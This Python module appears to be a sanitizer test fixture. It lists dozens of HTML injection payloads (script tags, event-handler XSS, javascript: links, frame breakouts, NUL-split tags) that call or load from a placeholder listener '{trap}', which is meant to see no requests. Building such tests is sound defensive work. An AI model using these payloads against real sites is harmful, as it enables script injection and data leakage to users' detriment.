"""HTML that tries to run, to load or to leave its frame. `{trap}` is a listener's address, which must see nothing."""

# ruff: noqa: E501 (a table of values reads better unbroken)

from typing import Final

PAYLOADS: Final = {
    "script": "<script src='{trap}/js'></script><script>fetch('{trap}/fetch')</script>",
    "SCRIPT in capitals": "<ScRiPt/x>location='{trap}/location'</sCrIpT>",
    "event handlers": "<img src=x onerror=\"fetch('{trap}/e')\"><svg onload=\"fetch('{trap}/f')\"><body onload=alert(1)>",
    "nested frame": '<iframe src="{trap}/iframe"></iframe>',
    "nested frame, odd": '<IFRAME/src="{trap}/x"></IFRAME><iframe\tsrc={trap}/y><iframe srcdoc="<img src={trap}/z>">',
    "frameset": '<frameset><frame src="{trap}/frame"></frameset>',
    "object and embed": '<object data="{trap}/object"></object><embed src="{trap}/embed"><applet code="{trap}/a">',
    "link stylesheet": '<link rel=stylesheet href="{trap}/css">',
    "link preconnect": '<link rel=preconnect href="{trap}"><link rel=preconnect crossorigin href="{trap}">',
    "link prefetch": '<link rel=prefetch href="{trap}/p"><link rel=dns-prefetch href="{trap}"><link rel=icon href="{trap}/i">',
    "link preload": '<link rel=preload as=image href="{trap}/l"><link rel=modulepreload href="{trap}/m">',
    "meta refresh": '<meta http-equiv=refresh content="0;url={trap}/refresh">',
    "meta policy": '<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="{trap}/meta">',
    "base": '<base href="{trap}/"><img src="base.png"><a href="x">x</a>',
    "picture": '<img src="{trap}/img" srcset="{trap}/srcset 2x"><picture><source srcset="{trap}/source"><img></picture>',
    "style": "<style>@import url({trap}/import); body {{ background: url({trap}/bg) }}</style>",
    "font": "<style>@font-face {{ font-family: x; src: url({trap}/font) }} p {{ font-family: x }}</style><p>x",
    "video and audio": '<video src="{trap}/video" poster="{trap}/poster" autoplay></video><audio src="{trap}/audio" autoplay>',
    "svg": '<svg><image href="{trap}/svg"/><use href="{trap}/use#x"/><animate attributeName=href to="{trap}/to"/></svg>',
    "svg script": "<svg><script href='{trap}/svgjs'/><foreignObject><iframe src='{trap}/fo'></foreignObject></svg>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img src='{trap}/m' onerror=alert(1)>",
    "form": '<form action="{trap}/form" method=post><button autofocus>x</button><input type=image src="{trap}/input"></form>',
    "click": '<a href="{trap}/a" style="position:fixed;inset:0">click</a>',
    "click, new tab": '<a target=_blank href="{trap}/blank" style="position:fixed;inset:0">click</a>',
    "click, whole page": '<a target=_top href="{trap}/top" ping="{trap}/ping" style="position:fixed;inset:0">click</a>',
    "click, form": '<form action="{trap}/sent"><button style="position:fixed;inset:0;width:100%">x</button></form>',
    "javascript link": '<a href="javascript:fetch(\'{trap}/js\')">x</a><a href="&#106;avascript:alert(1)">x</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "attribution": '<img attributionsrc="{trap}/attribution" src="data:,"><a attributionsrc="{trap}/a2" href="#">x</a>',
    "template and slot": '<template shadowrootmode=open><iframe src="{trap}/shadow"></iframe></template>',
    "breaking out": "</iframe></pre></table></title></textarea></style>--><script>alert(1)</script><iframe src='{trap}/out'>",
    "speculation": '<script type=speculationrules>{{"prefetch":[{{"urls":["{trap}/spec"]}}]}}</script>',
    "access key": '<a accesskey=x href="{trap}/key" autofocus tabindex=0>x</a><details open><summary autofocus>x</summary></details>',
    "base with a target": '<base target=_top><a href="{trap}/base" style="position:fixed;inset:0">x</a>',
    "math link": '<math href="{trap}/math" style="position:fixed;inset:0"><mtext href="{trap}/mtext">click</mtext></math>',
    "svg link and animation": '<svg width=999 height=999><a xlink:href="{trap}/a"><rect width=999 height=999><set attributeName=href to="{trap}/set"/></rect></a><feImage href="{trap}/fe"/></svg>',
    "styles that load": "<style>p::after {{ content: url({trap}/c) }} * {{ cursor: url({trap}/cur), auto; mask: url({trap}/mask#m); background: image-set('{trap}/set' 1x) }} li {{ list-style: url({trap}/li) }}</style><p>x<li>x",
    "old attributes": '<body background="{trap}/body"><table background="{trap}/table"><tr><td background="{trap}/td">x</table><bgsound src="{trap}/bgsound">',
    "later elements": '<fencedframe src="{trap}/fenced"></fencedframe><portal src="{trap}/portal"></portal><video><track default src="{trap}/track"></video><link rel=manifest href="{trap}/manifest"><link rel=expect href="{trap}#x">',
    "meta of other kinds": '<meta http-equiv=x-dns-prefetch-control content=on><meta http-equiv=set-cookie content="a=b"><meta http-equiv=delegate-ch content="sec-ch-ua-model {trap}"><meta http-equiv=refresh content="0;url=data:text/html,<img src={trap}/data>"><a href="{trap}">x</a>',
    "popover": '<button popovertarget=p autofocus style="position:fixed;inset:0">x</button><div id=p popover><iframe src="{trap}/popover"></iframe></div>',
    "NUL in a name": "<ifr\0ame src='{trap}/nul'></iframe><scr\0ipt>alert(1)</script>",
}  # fmt: skip


def payloads(trap: str) -> dict[str, str]:
    return {name: html.format(trap=trap) for name, html in PAYLOADS.items()}
